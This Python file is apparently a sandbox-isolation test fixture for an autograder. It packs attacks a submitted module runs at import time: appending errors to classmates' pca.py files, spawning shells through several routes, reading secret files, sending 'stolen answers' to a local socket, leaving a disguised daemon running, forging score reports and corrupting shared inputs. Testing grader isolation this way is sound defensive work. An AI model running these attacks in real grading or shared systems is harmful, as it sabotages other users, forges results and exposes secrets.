"""Attacks a grading child makes at import time (the tests put CONFIG in, then a correct pca.py after this code).

Each attempt prints one line "ATTACK <name>: WORKED" or "ATTACK <name>: blocked (<why>)"; the tests check the
concrete effects on the grading machine (files, sockets, processes, reports), not only these lines.
"""

import ctypes
import glob
import json
import os
import socket
import subprocess

CONFIG = json.loads(r"""{}""")  # replaced by the test: marker folder, secrets, victims, reports, port, linger name
_libc = ctypes.CDLL(None, use_errno=True)
_own = os.path.realpath(os.environ.get("GRADER_WORKDIR", "/nonexistent")) + os.sep
_here = os.path.realpath(__file__)


def _attempt(name, action):
    try:
        worked, why = bool(action()), "no effect"
    except BaseException as error:  # noqa: BLE001
        worked, why = False, f"{type(error).__name__}: {error}"
    print(f"ATTACK {name}: {'WORKED' if worked else f'blocked ({why})'}")


def _marker(name):
    return os.path.join(CONFIG["markers"], name)


def _others(pattern):
    """Paths matching ``pattern`` that belong to another grading (not this child's folder, not this file)."""
    return [path for path in glob.glob(pattern, recursive=True)
            if not os.path.realpath(path).startswith(_own) and os.path.realpath(path) != _here]


def _sabotage():
    targets = list(CONFIG["victims"]) + _others("/tmp/grader-*/**/pca.py")
    done = 0
    for path in targets:
        try:
            with open(path, "a") as handle:
                handle.write("\nraise RuntimeError('sabotaged by a classmate')\n")
            done += 1
        except OSError:
            pass
    return done


def _shell(command):
    return f"echo worked > {_marker(command)}".encode()


def _fork_exec():
    pid = _libc.fork()
    if pid == 0:
        argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", _shell("fork_exec"), None)
        _libc.execv(b"/bin/sh", argv)
        _libc._exit(127)
    if pid > 0:
        os.waitpid(pid, 0)
    return os.path.exists(_marker("fork_exec"))


def _read(path):
    with open(path, "rb") as handle:
        return len(handle.read()) > 0


def _read_by_libc(path):
    descriptor = _libc.open(path.encode(), 0)
    return descriptor >= 0 and _libc.close(descriptor) == 0


def _connect():
    with socket.create_connection(("127.0.0.1", CONFIG["port"]), timeout=2) as connection:
        connection.sendall(b"stolen answers")
    return True


def _linger():
    """A daemonised grandchild that renames itself and sleeps: the test looks for that name on the machine."""
    if _libc.fork() == 0:
        _libc.setsid()
        if _libc.fork() == 0:
            _libc.prctl(15, CONFIG["linger"].encode(), 0, 0, 0)  # PR_SET_NAME
            _libc.sleep(300)
        _libc._exit(0)
    return True


def _write_reports():
    done = 0
    for path in CONFIG["reports"]:
        try:  # (a folder it made itself would be in its own private /tmp)
            with open(path, "w") as handle:
                handle.write('{"score": 999, "forged": "FORGED-REPORT"}\n')
            done += 1
        except OSError:
            pass
    return done


def _other_gradings():
    """Another child's results or copy of a submission, or this process's fixtures; or poison the shared inputs."""
    found = _others("/tmp/grader-*/results-*/*") + _others("/tmp/grader-*/submission/**/*.py")
    found += [path for path in CONFIG["fixtures"] if os.path.exists(path)]
    poisoned = 0
    # its own grading process's inputs only (the process isolation control test): other folders belong to the test
    # suite's other workers, whose gradings it would sabotage
    for path in glob.glob(f"/tmp/grader-inputs-{os.getppid()}-*/*.npy")[:3]:
        try:
            with open(path, "r+b") as handle:
                handle.seek(0, 2)
                handle.write(b"\0")
            poisoned += 1
        except OSError:
            pass
    return found or poisoned


if CONFIG:
    print("ATTACK started: the attack code ran")
    _attempt("sabotage a classmate's pca.py", _sabotage)
    _attempt("os.system", lambda: os.system(_shell("os_system").decode()) == 0 or os.path.exists(_marker("os_system")))
    _attempt("subprocess", lambda: subprocess.run(["/bin/sh", "-c", _shell("subprocess").decode()]).returncode == 0)
    _attempt("ctypes system", lambda: _libc.system(_shell("ctypes_system")) == 0 or os.path.exists(_marker("ctypes_system")))
    _attempt("os.fork + exec", _fork_exec)
    for name, path in CONFIG["secrets"].items():
        _attempt(f"read {name}", lambda path=path: _read(path))
        _attempt(f"read {name} through libc", lambda path=path: _read_by_libc(path))
    _attempt("network", _connect)
    _attempt("leave a process running", lambda: _linger() and False)  # the test checks for it on the machine
    _attempt("write the reports", _write_reports)
    _attempt("another grading's files", _other_gradings)
